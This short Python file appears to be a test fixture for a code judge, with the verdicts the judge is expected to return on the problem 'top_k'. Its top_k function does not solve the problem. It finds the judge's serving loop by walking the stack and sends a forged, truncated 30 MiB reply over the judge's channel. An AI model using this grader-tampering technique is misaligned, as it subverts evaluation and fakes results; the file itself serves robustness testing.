"""Say that an answer of 30 MiB follows, and send a part of it."""
# problem: top_k
# verdicts: runtime_error, wrong_answer, time_limit_exceeded
# verdicts without layers: runtime_error, wrong_answer, time_limit_exceeded

import struct
import sys


def find():
    """Find the serving loop up the stack."""
    frame = sys._getframe()
    while frame:
        server = frame.f_locals.get("self")
        if hasattr(server, "channel") and hasattr(server, "number"):
            return server
        frame = frame.f_back
    raise LookupError("no serving loop to attack")


def top_k(items, k):
    server = find()
    blob = b"\xd6\x01" + struct.pack("!I", 30 * 2**20)
    body = b"\x93" + bytes([server.number]) + b"\xa6result\x91\x94\xa2ok" + blob + b"\xc0\x00"
    server.channel.end.sendall(struct.pack("!I", len(body)) + body + b"x" * 100_000)
    return []
